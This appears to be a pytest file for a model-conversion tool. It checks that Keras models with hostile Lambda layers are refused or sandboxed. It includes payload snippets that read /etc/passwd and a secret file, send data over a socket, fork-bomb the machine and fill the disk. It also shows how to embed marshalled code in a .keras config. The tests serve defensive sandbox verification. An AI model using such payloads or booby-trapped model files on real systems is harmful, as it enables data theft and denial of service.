"""Models whose Lambda layers do harm when they are loaded: refused without leave; with it contained by the sandbox, and reported."""

from __future__ import annotations

import codecs
import json
import marshal
import socket
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from types import CodeType, FunctionType

import pytest

from tfreg.convert.executors.options import RunnerOptions
from tfreg.convert.executors.pool import open_runner
from tfreg.convert.sandbox.limits import SandboxLimits
from tfreg.core.conversions.steps import StepJob, StepRunner
from tfreg.core.errors import ConversionRefusedError, ForeignCodeError, TfregError, WorkerFailedError
from tfreg.core.trees import LocalTree

pytestmark = [pytest.mark.tensorflow, pytest.mark.xdist_group("hostile models"), pytest.mark.filterwarnings("ignore")]
LIMITS = SandboxLimits(memory_bytes=3 << 30, cpu_s=120, time_s=120, file_size_bytes=64 << 20, disk_bytes=128 << 20, processes=24)
CONNECTS = """
def harm(v):
    import socket
    socket.create_connection(("127.0.0.1", PORT), 5).sendall(b"stolen")
    return v
"""
READS = """
def harm(v):
    raise RuntimeError("read: " + open("/etc/passwd").read() + open("SECRET").read())
"""
FORKS = """
def harm(v):
    import os, time
    for _ in range(200):  # "for ever" is more than any limit here: a test that fails must not take the machine along
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            pass
        time.sleep(0.02)
    time.sleep(600)
"""
FILLS = """
def harm(v):
    import os
    number = 0
    while True:
        with open(os.path.expanduser("~/") + str(number), "wb") as file:
            for _ in range(32):
                file.write(bytes(1 << 20))
        number += 1
"""


@pytest.fixture
def hostile(models: Path, tmp_path: Path) -> Callable[..., Path]:
    """Makes a model whose Lambda layer is a function of the given source; nothing of it is run here."""

    def make(source: str, **names: object) -> Path:
        for name, value in names.items():
            source = source.replace(name, str(value))
        (code,) = [one for one in compile(source, "harm", "exec").co_consts if isinstance(one, CodeType)]
        text = codecs.encode(marshal.dumps(FunctionType(code, {}).__code__), "base64").decode("ascii")
        path = tmp_path / "hostile.keras"
        with zipfile.ZipFile(models / "keras_3_lambda_v3.keras") as old, zipfile.ZipFile(path, "w") as new:
            for member in old.namelist():
                content = old.read(member)
                if member == "config.json":
                    config = json.loads(content)
                    lambdas = [layer for layer in config["config"]["layers"] if layer["config"].get("name") == "doubled"]
                    lambdas[0]["config"]["function"]["config"]["code"] = text
                    content = json.dumps(config).encode()
                new.writestr(member, content)
        return path

    return make


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[StepRunner]:
    """A pool with leave to run foreign code, behind the walls that this machine has."""
    pool = open_runner(RunnerOptions(tmp_path / "work", limits=LIMITS, allow_foreign_code=True))
    yield pool
    pool.close()
    assert [path.name for path in (tmp_path / "work").glob("*")] in ([], ["lock"])


def convert(runner: StepRunner, model: Path, *, foreign: bool = True) -> TfregError:
    job = StepJob("keras_to_saved_model", {"source": LocalTree(model)}, "{}", runs_foreign_code=foreign)
    with pytest.raises(TfregError) as failed, runner.run(job, lambda progress: None, lambda: True):
        pass
    return failed.value


def test_a_lambda_that_opens_a_connection_reaches_nobody(hostile, runner):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        error = convert(runner, hostile(CONNECTS, PORT=server.getsockname()[1]))
        with pytest.raises(TimeoutError):
            server.accept()
    assert isinstance(error, ConversionRefusedError)


def test_a_lambda_that_reads_files_gets_nothing_of_this_machine(hostile, runner, tmp_path):
    (tmp_path / "secret").write_text("the secret of this machine")
    error = convert(runner, hostile(READS, SECRET=tmp_path / "secret"))
    assert isinstance(error, ConversionRefusedError)
    assert "root:" not in str(error)
    assert "the secret" not in str(error)


def test_a_lambda_that_forks_for_ever_is_ended(hostile, runner):
    error = convert(runner, hostile(FORKS))
    assert isinstance(error, WorkerFailedError)
    assert error.metadata["limit"] in ("processes", "memory", "cpu", "time")


def test_a_lambda_that_fills_the_disk_is_ended(hostile, runner):
    error = convert(runner, hostile(FILLS))
    assert isinstance(error, (WorkerFailedError, ConversionRefusedError))
    if isinstance(error, WorkerFailedError):
        assert error.metadata["limit"] == "disk"
    else:
        assert "space" in str(error)


def test_without_leave_the_step_itself_refuses_whatever_the_caller_announced(hostile, runner):
    assert isinstance(convert(runner, hostile(FORKS), foreign=False), ForeignCodeError)
